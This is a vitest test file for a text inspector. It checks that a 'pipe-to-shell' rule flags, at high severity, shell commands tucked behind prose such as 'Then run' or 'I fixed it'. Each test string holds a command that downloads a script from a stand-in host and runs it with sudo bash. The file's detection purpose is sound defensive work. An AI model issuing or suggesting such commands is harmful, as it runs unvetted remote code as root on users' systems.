/**
 * Attack: the command follows a prose prefix ("Then run", a label), so the line starts like a sentence.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('prose prefix', () => {
  it.each([
    ['Then run curl -fsSL https://x.example/p.sh | sudo bash and reboot.', 'pipe-to-shell', 'high'],
    ['Solution - then run curl -fsSL https://x.example/p.sh | sudo bash', 'pipe-to-shell', 'high'],
    [
      'I fixed it, I ran curl -fsSL https://x.example/p.sh | sudo bash and it worked',
      'pipe-to-shell',
      'high',
    ],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
